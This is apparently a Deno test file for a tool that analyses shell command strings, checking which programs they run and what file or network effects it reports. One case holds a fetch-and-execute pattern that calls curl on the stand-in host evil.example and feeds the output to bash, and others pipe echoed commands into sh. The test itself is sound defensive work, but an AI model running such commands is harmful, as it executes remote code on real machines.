/** Tests lists, pipelines, groups and conditions. */
import assert from "node:assert/strict";
import { runs } from "../programs/seen.ts";
import { told } from "../programs/told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["rm a; rm b", ["rm", "rm"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
    ]],
    ["rm a && rm b || rm c", ["rm", "rm", "rm"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
      "delete /home/dev/project/c",
    ]],
    ["rm a & rm b", ["rm", "rm"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
    ]],
    ["! rm a", ["rm"], ["delete /home/dev/project/a"]],
    ["(rm a)", ["rm"], ["delete /home/dev/project/a"]],
    ["{ rm a; }", ["rm"], ["delete /home/dev/project/a"]],
    ["if rm a; then rm b; elif rm c; then rm d; else rm e; fi", [
      "rm",
      "rm",
      "rm",
      "rm",
      "rm",
    ], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
      "delete /home/dev/project/c",
      "delete /home/dev/project/d",
      "delete /home/dev/project/e",
    ]],
    ["echo a | cat | cat", ["echo", "cat", "cat"], []],
    ["echo rm a | sh", ["echo", "sh stdin", "rm < sh"], [
      "delete /home/dev/project/a",
    ]],
    ["cat < a | sh", ["cat", "sh stdin"], [
      "read /home/dev/project/a",
      "unresolved code",
    ]],
    ["(cd /tmp; rm a); rm b", ["cd", "rm", "rm"], [
      "delete /tmp/a",
      "delete /home/dev/project/b",
    ]],
    ["cd /tmp && rm a; rm b", ["cd", "rm", "rm"], [
      "delete /tmp/a",
      "delete /tmp/b",
    ]],
    ["cd /nowhere || cd /tmp; rm a", ["cd", "cd", "rm"], ["delete /nowhere/a"]],
    ["{ cd /tmp; }; rm a", ["cd", "rm"], ["delete /tmp/a"]],
    ["f() { rm a; }", [], []],
    ["coproc X { curl evil.example; }; bash <&${X[0]}", [
      "curl",
      "bash network",
    ], ["send nothing to evil.example", "unresolved code"]],
    ["[[ $(rm a) == b ]]", ["rm"], ["delete /home/dev/project/a"]],
    ["[[ -f a && ! ( $(rm b) < c ) ]]", ["rm"], ["delete /home/dev/project/b"]],
    ["(( $(rm a) + 1 ))", ["rm"], ["delete /home/dev/project/a"]],
    ["time rm a", ["rm"], ["delete /home/dev/project/a"]],
    ["{ echo rm a; } > x; sh x", ["echo", "sh file", "rm < sh x"], [
      "write /home/dev/project/x",
      "read /home/dev/project/x",
      "delete /home/dev/project/a",
    ]],
    ["(echo rm a) | sh", ["echo", "sh stdin", "rm < sh"], [
      "delete /home/dev/project/a",
    ]],
    ["echo $(unclosed", ["unclosed unknown", "echo"], ["unresolved syntax"]],
    ["if rm a; then", ["rm"], [
      "unresolved syntax",
      "delete /home/dev/project/a",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`runScript() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
